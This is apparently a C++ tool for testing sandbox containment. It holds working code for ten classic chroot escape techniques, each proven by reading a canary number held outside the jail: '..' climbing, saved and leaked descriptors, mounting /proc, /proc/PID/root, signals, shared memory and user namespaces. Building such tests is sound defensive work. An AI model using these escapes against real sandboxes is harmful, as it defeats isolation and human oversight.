// Ten classic ways out of a chroot, each with a proof: a number that is only known outside. Harmless to the
// host: nothing is written outside, the one mount made is taken away again, signals go to a process made for
// it.
//
//   escapes list                          the techniques, a line each: ID <tab> what is done
//   escapes canary NUMBER                 outside: prints "PID SHMID", answers a signal, holds a shared
//   memory segment,
//                                         until its standard input ends
//   escapes try ID FILE PID SHMID         inside: FILE holds the number outside, descriptor 9 was left open
//   by mistake;
//                                         prints "escaped NUMBER" or "held ERRNO what"
//
// Static, so that it runs in an empty root.
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

struct Target {
  std::string file;  // absolute, outside
  pid_t canary = 0;
  int segment = 0;
};

// What an attempt ends with: the number, or the call that stopped it and its errno.
struct Outcome {
  std::string number;
  std::string stopped_at;
  int error = 0;
};

constexpr int kLeakedFd = 9;
constexpr const char* kSomeFolder = "/tmp";  // any folder below the root does
constexpr const char* kRootOnlyFile = "/root-only";

Outcome stopped(const char* at) { return {{}, at, errno}; }

Outcome read_number(int directory, const std::string& path) {
  const int fd = openat(directory, path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return stopped("open");
  char text[32] = {};
  const ssize_t size = read(fd, text, sizeof text - 1);
  const Outcome failed = stopped("read");
  close(fd);
  if (size <= 0) return failed;
  text[strcspn(text, "\n")] = '\0';
  return {text, {}, 0};
}

// From a working directory above the root: up to the real root, make it ours again, read.
Outcome climb_and_read(const Target& target) {
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) return stopped("chdir");
  }
  if (chroot(".") != 0) return stopped("chroot");
  return read_number(AT_FDCWD, target.file);
}

// S1: chroot moves the root, not the working directory, which is then above the root.
Outcome chroot_and_climb(const Target& target) {
  if (chdir("/") != 0) return stopped("chdir");
  if (chroot(kSomeFolder) != 0) return stopped("chroot");
  return climb_and_read(target);
}

// S9: the same hole without climbing: one relative path from the old working directory.
Outcome chroot_and_relative_path(const Target& target) {
  if (chdir("/") != 0) return stopped("chdir");
  if (chroot(kSomeFolder) != 0) return stopped("chroot");
  std::string path = ".";
  for (int i = 0; i < 64; i++) path += "/..";
  return read_number(AT_FDCWD, path + target.file);
}

// S35: whoever starts the jail left a descriptor of the host's root open. Needs no privilege at all.
Outcome leaked_descriptor(const Target& target) { return read_number(kLeakedFd, target.file.substr(1)); }

// S45: the classic in its steps: keep a descriptor of the root, chroot deeper, go back through the
// descriptor.
Outcome saved_descriptor(const Target& target) {
  const int saved = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (saved < 0) return stopped("open");
  if (chroot(kSomeFolder) != 0) return stopped("chroot");
  if (chdir("/") != 0) return stopped("chdir");
  if (fchdir(saved) != 0) return stopped("fchdir");
  return climb_and_read(target);
}

// S60: user 0 in here is user 0 out there: what the host's root alone may read is open.
Outcome root_is_root(const Target&) {
  if (setuid(0) != 0) return stopped("setuid");
  return read_number(AT_FDCWD, kRootOnlyFile);
}

// S67: root may mount: a fresh /proc, and through it the root of a process outside.
Outcome mount_proc(const Target& target) {
  if (mount("proc", kSomeFolder, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, nullptr) != 0)
    return stopped("mount");
  const Outcome outcome = read_number(
      AT_FDCWD, std::string(kSomeFolder) + "/" + std::to_string(target.canary) + "/root" + target.file);
  umount2(kSomeFolder, MNT_DETACH);
  return outcome;
}

// S68: signals know process numbers, not roots. The canary answers with the number.
Outcome signal_outside(const Target& target) {
  sigset_t answer;
  sigemptyset(&answer);
  sigaddset(&answer, SIGUSR2);
  sigprocmask(SIG_BLOCK, &answer, nullptr);
  if (kill(target.canary, SIGUSR1) != 0) return stopped("kill");
  const timespec patience{2, 0};
  siginfo_t info;
  if (sigtimedwait(&answer, &info, &patience) != SIGUSR2) return stopped("no answer to the signal");
  return {std::to_string(info.si_value.sival_int), {}, 0};
}

// S69: System V shared memory has no path, so no root hides it.
Outcome shared_memory(const Target& target) {
  const void* memory = shmat(target.segment, nullptr, SHM_RDONLY);
  if (memory == reinterpret_cast<void*>(-1)) return stopped("shmat");
  return {static_cast<const char*>(memory), {}, 0};
}

// S76: root in a user namespace has CAP_SYS_CHROOT over a root that is still below another.
Outcome user_namespace(const Target& target) {
  if (chdir("/") != 0) return stopped("chdir");
  if (chroot(kSomeFolder) != 0) {
    if (unshare(CLONE_NEWUSER) != 0) return stopped("unshare");
    if (chroot(kSomeFolder) != 0) return stopped("chroot");
  }
  return climb_and_read(target);
}

// S28: through the host's /proc, bound in for convenience: /proc/PID/root of any process outside.
Outcome proc_root(const Target& target) {
  DIR* proc = opendir("/proc");
  if (!proc) return stopped("opendir");
  Outcome outcome{{}, "no process of the outside in /proc", ENOENT};
  while (const dirent* entry = readdir(proc)) {
    if (!isdigit(static_cast<unsigned char>(entry->d_name[0]))) continue;
    outcome = read_number(AT_FDCWD, std::string("/proc/") + entry->d_name + "/root" + target.file);
    if (!outcome.number.empty()) break;
  }
  closedir(proc);
  return outcome;
}

struct Technique {
  const char* id;
  const char* what;
  Outcome (*attempt)(const Target&);
};
constexpr Technique kTechniques[] = {
    {"S1", "chroot deeper, climb with '..'", chroot_and_climb},
    {"S9", "chroot again, one relative path", chroot_and_relative_path},
    {"S35", "a descriptor left open", leaked_descriptor},
    {"S45", "fchdir to a saved descriptor", saved_descriptor},
    {"S60", "root inside is root: its secrets", root_is_root},
    {"S67", "mount /proc from inside", mount_proc},
    {"S68", "signal a process outside", signal_outside},
    {"S69", "attach shared memory of outside", shared_memory},
    {"S76", "root by user namespace, climb", user_namespace},
    {"S28", "/proc/PID/root in a bound /proc", proc_root},
};

volatile sig_atomic_t number_outside = 0;

void answer(int, siginfo_t* info, void*) {
  sigval value{};
  value.sival_int = number_outside;
  sigqueue(info->si_pid, SIGUSR2, value);
}

int canary(const char* number) {
  number_outside = atoi(number);
  struct sigaction action = {};
  action.sa_sigaction = answer;
  action.sa_flags = SA_SIGINFO | SA_RESTART;
  sigaction(SIGUSR1, &action, nullptr);

  // Marked for removal at once: it lives as long as this process, whatever ends it; others may still attach
  // by id.
  const int segment = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0666);
  void* memory = segment < 0 ? reinterpret_cast<void*>(-1) : shmat(segment, nullptr, 0);
  if (memory == reinterpret_cast<void*>(-1)) {
    perror("escapes: canary");
    return 1;
  }
  shmctl(segment, IPC_RMID, nullptr);
  snprintf(static_cast<char*>(memory), 32, "%s", number);

  printf("%d %d\n", getpid(), segment);
  fflush(stdout);
  char byte;
  for (;;) {
    const ssize_t got = read(STDIN_FILENO, &byte, 1);
    if (got == 0 || (got < 0 && errno != EINTR)) return 0;
  }
}

int attempt(const char* id, const Target& target) {
  for (const Technique& technique : kTechniques) {
    if (strcmp(technique.id, id) != 0) continue;
    const Outcome outcome = technique.attempt(target);
    if (!outcome.number.empty()) {
      printf("escaped %s\n", outcome.number.c_str());
    } else {
      const char* name = strerrorname_np(outcome.error);
      printf("held %s %s\n", name ? name : "0", outcome.stopped_at.c_str());
    }
    return 0;
  }
  fprintf(stderr, "escapes: no technique '%s'\n", id);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && strcmp(argv[1], "list") == 0) {
    for (const Technique& technique : kTechniques) printf("%s\t%s\n", technique.id, technique.what);
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "canary") == 0) return canary(argv[2]);
  if (argc == 6 && strcmp(argv[1], "try") == 0 && argv[3][0] == '/') {
    return attempt(argv[2], {argv[3], atoi(argv[4]), atoi(argv[5])});
  }
  fprintf(stderr, "usage: escapes list | canary NUMBER | try ID FILE PID SHMID\n");
  return 2;
}
